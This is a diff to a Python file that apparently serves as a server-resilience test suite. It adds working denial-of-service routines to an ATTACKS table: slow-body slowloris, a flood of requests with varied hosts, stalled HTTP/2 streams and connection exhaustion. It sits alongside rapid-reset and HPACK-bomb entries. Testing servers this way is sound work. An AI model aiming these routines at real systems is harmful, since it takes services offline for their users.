@@ -298,9 +298,79 @@ def slowloris_headers(t):
     return siege(t, 150, f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n".encode(), lambda: b"x: y\r\n", patience=4)
 
 
-def slowloris_body(t):
-    """A body may come as slowly as it likes, for it may be a stream; its connection is all that it costs."""
-    return siege(t, 150, f"POST / HTTP/1.1\r\nHost: {t.authority}\r\nContent-Length: 100000\r\n\r\n".encode(), lambda: b"x")
+def slow_bodies(t, pause=0.2):
+    """150 connections that send a body byte by byte: two thirds of the bodies end within the time, the others never. A
+    body may come as slowly as it likes, for it may be a stream."""
+    length, rounds = 6, int((t.left() - 0.5) / pause)
+    socks, result = [], {"connections": 150, "answered": 0, "ended": 0}
+    for i in range(150):
+        sock = socket.create_connection((t.host, t.port), 5)
+        sock.sendall(f"POST / HTTP/1.1\r\nHost: {t.authority}\r\nContent-Length: {length if i % 3 else 100_000}\r\n\r\n".encode())
+        sock.setblocking(False)
+        socks.append(sock)
+    for n in range(rounds):
+        for i, sock in enumerate(socks):
+            if i % 3 == 0 or n < length:
+                try:
+                    sock.send(b"x")
+                except OSError:
+                    pass
+        time.sleep(pause)
+    for i, sock in enumerate(socks):
+        try:
+            got = sock.recv(1000)
+        except BlockingIOError:
+            got = None
+        except OSError:
+            got = b""
+        result["ended"] += got == b""
+        result["answered"] += bool(got) and got.startswith(b"HTTP/1.1 200 ") and got.endswith(b"ok")
+        sock.close()
+    return result
+
+
+def many_hosts(t, count=50_000):
+    """Requests that each name another host, path and user agent; a hundred at once. Not bound in time."""
+    result = {"connections": 1, "answered": 0}
+    peer = Peer(t.host, t.port)
+    for i in range(0, count, 100):
+        block = [request(f"host-{j}.example.com", f"/{j}", "GET", ("user-agent", f"agent/{j}"), ("l5d-dst-override", f"svc-{j}:80")) for j in range(i, i + 100)]
+        if not peer.send(b"".join(head(b, nth(i + j)) for j, b in enumerate(block)), 20) or not peer.wait(20, lambda: peer.ended >= i + 100):
+            break
+    result["answered"], result["goaway"] = peer.ended, peer.goaway
+    peer.close()
+    return result
+
+
+def many_requests(t):
+    """Sixty requests at once whose large answers may not leave, on ten connections."""
+    get, peers = t.get(), []
+    for _ in range(10):
+        peers.append(Peer(t.host, t.port, PREFACE + settings((4, 0))))
+        peers[-1].send(b"".join(head(get, nth(i)) for i in range(6)))
+    hold(t, peers)
+    refused = sum(p.ended for p in peers)
+    return {"connections": 10, "open": 60 - refused, "refused": refused}
+
+
+def many_connections(t):
+    """As many connections as it can hold open at once."""
+    socks, refused = [], 0
+    for _ in range(60):
+        sock = socket.create_connection((t.host, t.port), 5)
+        sock.sendall(f"GET / HTTP/1.1\r\nHost: {t.authority}\r\n\r\n".encode())
+        try:
+            if sock.recv(1000).startswith(b"HTTP/1.1 200 "):
+                socks.append(sock)
+                continue
+        except OSError:
+            pass
+        refused += 1
+        sock.close()
+    time.sleep(max(t.left(), 0))
+    for sock in socks:
+        sock.close()
+    return {"connections": 60, "open": len(socks), "refused": refused}
 
 
 def slow_read(t):
@@ -372,9 +442,10 @@ def slow_hello(t):
 
 ATTACKS = {f.__name__: f for f in (
     rapid_reset, continuation, empty_continuation, slow_continuation, slow_frame, hpack_bomb, reference_bomb, empty_headers, trailers_without_end,
-    ping, deaf_ping, empty_settings, long_settings, priority, window_update, empty_data, padded_data, unknown_frames, settings_ack, zero_window, many_zero_windows,
-    one_byte_window, deaf, after_goaway, data_with_reset, slowloris_line, slowloris_headers, slowloris_body, slow_read, half_open,
-    connection_flood, oversize_head, handshake_flood, half_handshakes, slow_hello)}
+    ping, deaf_ping, empty_settings, long_settings, priority, window_update, empty_data, padded_data, unknown_frames, settings_ack, zero_window,
+    many_zero_windows, one_byte_window, deaf, after_goaway, data_with_reset, slowloris_line, slowloris_headers, slow_bodies, slow_read, half_open,
+    connection_flood, oversize_head, handshake_flood, half_handshakes, slow_hello, many_hosts, many_requests,
+    many_connections)}
 # The six ways to make the server reset a stream (CVE-2025-8671).
 ATTACKS |= {
     "made_reset_window_of_zero": made_you_reset(lambda s: frame(WINDOW, 0, s, b"\0\0\0\0")),
